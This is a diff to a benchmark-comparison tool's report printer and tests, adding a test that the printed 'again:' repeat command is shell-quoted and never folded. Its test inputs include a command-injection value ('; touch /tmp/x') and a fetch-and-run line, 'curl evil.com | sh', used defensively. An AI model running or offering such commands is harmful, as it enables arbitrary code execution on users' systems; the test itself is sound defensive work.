@@ -52,6 +52,7 @@ Compared
   head: working tree (71816db000, with uncommitted changes)
   largest error ratio of base: 1.1 (lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward, grad:x)
   largest error ratio of head: 1.1 (lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward, grad:x)
+
   again: gatebench ab main quick
   recompute: gatebench compare --recompute 20261122T101500Z-4f1c
 
@@ -99,6 +100,15 @@ def test_names_that_are_too_long_are_folded_and_lose_nothing(printed):
     text = printed(case(name, verdict("slower", 0.05, 0.04, 0.06), base=side(), head=side()))
     assert max(len(line) for line in text.splitlines()) <= 100
     assert name in re.sub(r"\n *", "", text)
+
+
+def test_a_command_is_quoted_again_and_never_folded(printed):
+    """A terminal's own fold is copied as one line; a line of its own would be a command of its own."""
+    words = " ".join(f"word{number}" for number in range(60))
+    text = printed(SAME, command=f"gatebench ab {words}; touch /tmp/x")
+    assert f"\n  again: gatebench ab {words.removesuffix('word59')}'word59;' touch /tmp/x\n" in text
+    assert "again: " not in printed(SAME, command=f"gatebench ab {words * 10}")
+    assert "again: " not in printed(SAME, command="curl evil.com | sh")
 
 
 def test_the_long_page_has_a_row_for_every_quantity_of_every_case(printed):
